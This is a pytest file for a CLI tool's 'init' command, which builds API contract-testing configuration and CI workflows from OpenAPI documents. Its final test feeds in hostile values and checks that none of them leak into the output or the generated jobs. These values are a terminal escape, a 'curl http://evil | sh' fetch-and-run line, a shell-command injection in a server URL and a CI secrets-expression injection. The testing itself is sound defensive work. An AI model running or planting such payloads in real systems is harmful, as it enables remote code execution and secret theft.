"""`clausewise init` as a whole: what it writes can be read and works, and nothing is overwritten."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from textwrap import dedent
from urllib.parse import urlsplit

import pytest
import yaml
from click.testing import CliRunner, Result

from clausewise import config
from clausewise.cli import group
from clausewise.cli import init as init_module
from clausewise.errors import ClausewiseError, UsageError
from clausewise.options import TargetSpec
from clausewise.scaffold import surroundings
from clausewise.scaffold.pipeline import SERVICES, Service
from tests.conftest import RunClausewise
from tests.retrieval.conftest import Serve, serve

__all__ = ["serve"]

Init = Callable[..., Result]

#: a WSGI app with a login of its own, a list that needs it, and a fault: it answers a number where a text is documented
_NOTES = """
import json
from urllib.parse import parse_qs

ITEMS = {"type": "array", "items": {"type": "string", "maxLength": 9}}
FORM = {"type": "object", "required": ["username", "password"], "properties": {
    "username": {"type": "string"}, "password": {"type": "string"}, "grant_type": {"enum": ["password"]}}}
TOKEN = {"type": "object", "required": ["access_token"], "properties": {"access_token": {"type": "string"}}}
PROBLEMS = {code: {"description": "no"} for code in ("400", "401", "405")}


def answer(schema):
    return {"description": "fine", "content": {"application/json": {"schema": schema}}}


DOCUMENT = {
    "openapi": "3.1.0",
    "info": {"title": "Notes", "version": "1"},
    "components": {"securitySchemes": {"people": {"type": "oauth2", "flows": {"password": {"tokenUrl": "token"}}}}},
    "paths": {
        "/token": {"post": {
            "operationId": "logIn",
            "requestBody": {"required": True, "content": {"application/x-www-form-urlencoded": {"schema": FORM}}},
            "responses": {"200": answer(TOKEN), **PROBLEMS}}},
        "/notes": {"get": {
            "operationId": "notes", "security": [{"people": []}], "responses": {"200": answer(ITEMS), **PROBLEMS}}},
    },
}


def app(environ, start_response):
    path, method = environ["PATH_INFO"], environ["REQUEST_METHOD"]

    def reply(status, value):
        start_response(status, [("Content-Type", "application/json")])
        return [json.dumps(value).encode()]

    if (method, path) == ("GET", "/openapi.json"):
        return reply("200 OK", DOCUMENT)
    if (method, path) == ("POST", "/token"):
        form = parse_qs(environ["wsgi.input"].read(int(environ.get("CONTENT_LENGTH") or 0)).decode("latin-1"))
        known = form.get("username") == ["ann"] and form.get("password") == ["open sesame"]
        return reply("200 OK", {"access_token": "t1"}) if known else reply("400 Bad Request", {})
    if (method, path) == ("GET", "/notes"):
        known = environ.get("HTTP_AUTHORIZATION") == "Bearer t1"
        return reply("200 OK", ["a", 2]) if known else reply("401 Unauthorized", {})
    return reply("405 Method Not Allowed", {})
"""

_PETS = {
    "openapi": "3.1.0",
    "info": {"title": "Pets", "version": "1"},
    "paths": {"/pets": {"get": {"operationId": "pets", "responses": {"200": {"description": "all"}}}}},
}


@pytest.fixture
def init(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Init:
    """Runs the command in an empty folder; no server of this machine is looked for."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(surroundings, "PORTS", ())

    def init(*arguments: str, answers: str | None = None) -> Result:
        if answers is not None:
            monkeypatch.setattr(init_module, "_is_terminal", lambda: True)
        return CliRunner().invoke(group, ["init", *arguments], input=answers, catch_exceptions=False)

    return init


def _loaded() -> config.Config:
    return config.load(None, Path())


def test_from_nothing_to_a_red_gate(tmp_path: Path, run_clausewise: RunClausewise) -> None:
    """The whole way: `init`, the variables that it names, and the command that it prints."""
    (tmp_path / "notes_api.py").write_text(_NOTES)
    begun = run_clausewise("init", "notes_api:app", cwd=tmp_path)
    assert begun.returncode == 0, begun.stderr
    last = [line.strip() for line in begun.stdout.rpartition("next:\n")[2].splitlines()]
    assert [line.partition("=")[0] for line in last[:-1]] == ["export API_USERNAME", "export API_PASSWORD"]

    login = {"API_USERNAME": "ann", "API_PASSWORD": "open sesame"}
    gate = run_clausewise(*last[-1].split()[1:], cwd=tmp_path, env=login)
    assert gate.returncode == 1, gate.stderr
    assert "[response-schema]" in gate.stdout and "operations accepted 2 of 2" in gate.stdout
    assert "sesame" not in (tmp_path / "reports/latest/run.json").read_text()

    unset = run_clausewise("gate", cwd=tmp_path)
    assert (unset.returncode, "API_USERNAME" in unset.stderr) == (2, True)


def test_an_app_of_the_folder_is_found(init: Init, tmp_path: Path) -> None:
    (tmp_path / "tests").mkdir()
    (tmp_path / "tests" / "test_app.py").write_text("app = FastAPI()\n")
    (tmp_path / "service.py").write_text(
        dedent(
            f"""
            DOCUMENT = {_PETS!r}
            class FastAPI:
                def openapi(self): return DOCUMENT
                def __call__(self, environ, start_response): ...
            api: FastAPI = FastAPI()
            """
        )
    )
    sys.modules.pop("service", None)
    done = init("--yes")
    assert done.exit_code == 0
    assert "API: Pets, 1 operation\ndocument: asked of the target (service:api)\ntarget: service:api\n" in done.output
    assert done.output.endswith("wrote clausewise.toml\n\nnext:\n  clausewise gate\n")
    assert (_loaded().target, _loaded().spec) == (TargetSpec(app="service:api"), None)


def test_a_document_of_the_folder_is_found(init: Init, tmp_path: Path) -> None:
    (tmp_path / "node_modules").mkdir()
    (tmp_path / "docs").mkdir()
    for path in ("node_modules/openapi.json", "docs/openapi.json", "data.json"):
        (tmp_path / path).write_text(json.dumps(_PETS | {"servers": [{"url": "https://pets.example/v1/"}]}))
    assert init("--yes").exit_code == 0
    assert (_loaded().spec, _loaded().target) == ("docs/openapi.json", TargetSpec(url="https://pets.example/v1"))


def test_a_url_of_a_document_and_of_a_server(init: Init, serve: Serve, tmp_path: Path) -> None:
    named = _PETS | {"servers": [{"url": "https://pets.example/v1"}]}
    server = serve({"/v1/openapi.json": json.dumps(named)})
    for url in (f"{server.url}/v1/openapi.json", f"{server.url}/v1/", f"{server.url}/v1"):
        assert init(url).exit_code == 0
        assert _loaded().spec == f"{server.url}/v1/openapi.json"
        # It is that of this machine, and not the one in production that the document names.
        assert _loaded().target == TargetSpec(url=f"{server.url}/v1")
        (tmp_path / "clausewise.toml").unlink()


def test_a_server_at_a_usual_port_is_found(init: Init, serve: Serve, monkeypatch: pytest.MonkeyPatch) -> None:
    silent, pets = serve({}), serve({"/openapi.json": json.dumps(_PETS)})
    ports = [urlsplit(server.url).port for server in (silent, pets)]
    monkeypatch.setattr(surroundings, "PORTS", tuple(ports))
    monkeypatch.setattr(surroundings, "_ANSWER", 10)
    done = init("--yes")
    assert done.exit_code == 0, done.output
    assert (_loaded().spec, _loaded().target) == (f"{pets.url}/openapi.json", TargetSpec(url=pets.url))


def test_pyproject_is_added_to(init: Init, tmp_path: Path) -> None:
    (tmp_path / "api.json").write_text(json.dumps(_PETS))
    before = "[project]\nname = 'x'"
    (tmp_path / "pyproject.toml").write_text(before)
    assert "wrote [tool.clausewise] in pyproject.toml" in init("api.json").output
    assert (tmp_path / "pyproject.toml").read_text().startswith(before + "\n\n[tool.clausewise]\nspec = ")
    assert _loaded().spec == "api.json"
    assert _loaded().target == TargetSpec(url="http://127.0.0.1:8000")


def test_what_is_there_is_not_overwritten(init: Init, tmp_path: Path) -> None:
    (tmp_path / "api.json").write_text(json.dumps(_PETS))
    init("api.json", "--ci", "github")
    texts = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    for arguments in (["api.json"], ["--yes"], ["--ci", "github"]):
        with pytest.raises(UsageError, match="overwritten"):
            init(*arguments)
    assert texts == {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}


def test_a_job_for_a_configuration_that_is_there(init: Init, tmp_path: Path) -> None:
    (tmp_path / "api.json").write_text(json.dumps(_PETS))
    (tmp_path / "clausewise.toml").write_text('spec = "api.json"\ntarget = { mock = true }\n')
    (tmp_path / ".gitlab-ci.yml").write_text("{}")
    done = init("--ci", "gitlab")
    assert "clausewise.toml has a configuration already, and stays as it is" in done.output
    assert "add to .gitlab-ci.yml: include: [{local: .gitlab/contract.yml}]" in done.output
    assert (tmp_path / ".gitlab-ci.yml").read_text() == "{}"


def test_three_questions_at_most(init: Init, tmp_path: Path) -> None:
    for name in ("openapi.json", "other.json"):
        (tmp_path / name).write_text(json.dumps(_PETS))
    done = init(answers="2\nhttp://127.0.0.1:9\ngithub\n")
    assert done.exit_code == 0
    assert (_loaded().spec, _loaded().target) == ("other.json", TargetSpec(url="http://127.0.0.1:9"))
    assert (tmp_path / ".github/workflows/contract.yml").is_file()


def test_an_answer_that_cannot_be_is_asked_again(init: Init, tmp_path: Path) -> None:
    (tmp_path / "openapi.json").write_text(json.dumps(_PETS))
    assert init("openapi.json", answers="nowhere\nmock\nno\n").exit_code == 0
    assert _loaded().target == TargetSpec(mock=True)


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--yes"], "there is no OpenAPI document and no app in this folder"),
        (["missing.yaml"], "missing.yaml: no such file"),
        (["no_such_module:app"], "cannot be imported"),
        (["http://127.0.0.1:1/openapi.json"], "nothing listens"),
    ],
)
def test_nothing_to_begin_with(init: Init, tmp_path: Path, arguments: list[str], message: str) -> None:
    with pytest.raises(ClausewiseError, match=message):
        init(*arguments)
    assert not [*tmp_path.iterdir()]


def test_a_document_that_wants_credentials(init: Init, serve: Serve, monkeypatch: pytest.MonkeyPatch) -> None:
    def guarded(headers: dict[str, str]) -> object:
        return json.dumps(_PETS) if headers.get("x-key") == "k" else (401, {}, "")

    server = serve({"/api.json": guarded})
    monkeypatch.setenv("DOCS_KEY", "k")
    done = init(f"{server.url}/api.json", "--spec-header", "X-Key: env:DOCS_KEY", "--allow-remote-refs")
    assert done.exit_code == 0
    assert (_loaded().spec_headers, _loaded().allow_remote_refs) == ((("X-Key", "env:DOCS_KEY"),), True)


def _guarded(**schemes: object) -> str:
    answers = {"200": {"description": "all"}, "401": {"description": "no"}}
    operation = {"operationId": "pets", "security": [{name: [] for name in schemes}], "responses": answers}
    document = _PETS | {"paths": {"/pets": {"get": operation}}, "components": {"securitySchemes": schemes}}
    return json.dumps(document)


@pytest.mark.parametrize(
    ("scheme", "given"),
    [
        ({"type": "http", "scheme": "basic"}, {"username": "env:API_USERNAME", "password": "env:API_PASSWORD"}),
        ({"type": "http", "scheme": "bearer"}, {"value": "env:API_TOKEN"}),
        ({"type": "apiKey", "in": "query", "name": "key"}, {"value": "env:API_KEY"}),
        ({"type": "openIdConnect", "openIdConnectUrl": "https://id.example"}, {"value": "env:API_TOKEN"}),
        (
            {"type": "oauth2", "flows": {"clientCredentials": {"tokenUrl": "https://id.example/token", "scopes": {}}}},
            {"client_id": "env:API_CLIENT_ID", "client_secret": "env:API_CLIENT_SECRET"},
        ),
        ({"type": "oauth2", "flows": {"implicit": {"authorizationUrl": "/"}}}, {"value": "env:API_TOKEN"}),
        ({"type": "mutualTLS"}, None),
        ({"type": "http", "scheme": "digest"}, None),
    ],
    ids=["basic", "bearer", "key", "OpenID Connect", "client credentials", "implicit", "mutual TLS", "digest"],
)
def test_a_login_for_each_kind_of_scheme(init: Init, scheme: object, given: dict[str, str] | None) -> None:
    Path("api.json").write_text(_guarded(**{"a scheme.1": scheme}))
    assert init("api.json").exit_code == 0
    credentials = _loaded().run.credentials
    if given is None:
        assert not credentials and "a scheme.1: " in Path("clausewise.toml").read_text()
    else:
        assert {name: getattr(credentials["a scheme.1"], name) for name in given} == given


def test_two_schemes_have_variables_of_their_own(init: Init) -> None:
    key = {"type": "apiKey", "in": "header"}
    Path("api.json").write_text(_guarded(one={**key, "name": "X-One"}, two={**key, "name": "X-Two"}))
    done = init("api.json")
    assert [line.split()[1] for line in done.output.splitlines() if "export" in line] == [
        "API_KEY=...",
        "API_KEY_TWO=...",
    ]


@pytest.mark.parametrize("service", ["github", "gitlab"])
def test_jobs_are_valid(init: Init, tmp_path: Path, service: Service) -> None:
    path = SERVICES[service][0]
    (tmp_path / "requirements.txt").write_text("fastapi\n")
    (tmp_path / "main.py").write_text("raise RuntimeError\napp = FastAPI()\n")
    (tmp_path / "api.json").write_text(_guarded(people={"type": "http", "scheme": "bearer"}))
    done = init("api.json", "--ci", service)
    assert "as secrets: API_TOKEN" in done.output
    text = (tmp_path / path).read_text()
    assert yaml.safe_load(text)
    assert "uvicorn main:app --port 8000" in text and "pip install -r requirements.txt" in text
    kind = {"github": "vendor.github-workflows", "gitlab": "vendor.gitlab-ci"}[service]
    command = [sys.executable, "-m", "check_jsonschema", "--builtin-schema", kind, path]
    checked = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, timeout=60, check=False)
    assert checked.returncode == 0, checked.stdout


@pytest.mark.parametrize("service", ["github", "gitlab"])
def test_a_document_gives_no_commands(init: Init, tmp_path: Path, service: Service) -> None:
    """Neither to a terminal, nor to the shell or the expressions of a job."""
    evil = "it\x1b]0;title\x07\n  curl http://evil | sh"
    document = json.loads(_guarded(**{evil: {"type": "http", "scheme": "bearer"}}))
    document["info"]["title"] = evil
    for url in ("http://127.0.0.1:7/'; touch /tmp/x; '", "http://localhost:7/${{ secrets.X }}"):
        (tmp_path / "api.json").write_text(json.dumps({**document, "servers": [{"url": url}]}))
        for left in (tmp_path / "clausewise.toml", tmp_path / SERVICES[service][0]):
            left.unlink(missing_ok=True)
        done = init("api.json", "--ci", service)
        assert done.exit_code == 0 and "\x1b" not in done.output
        assert not [line for line in done.output.splitlines() if line.strip().startswith("curl")]
        job = (tmp_path / SERVICES[service][0]).read_text()
        assert f"answers at {url[: url.index(':7/') + 2]}'" in job
        assert "touch" not in job and "secrets.X " not in job
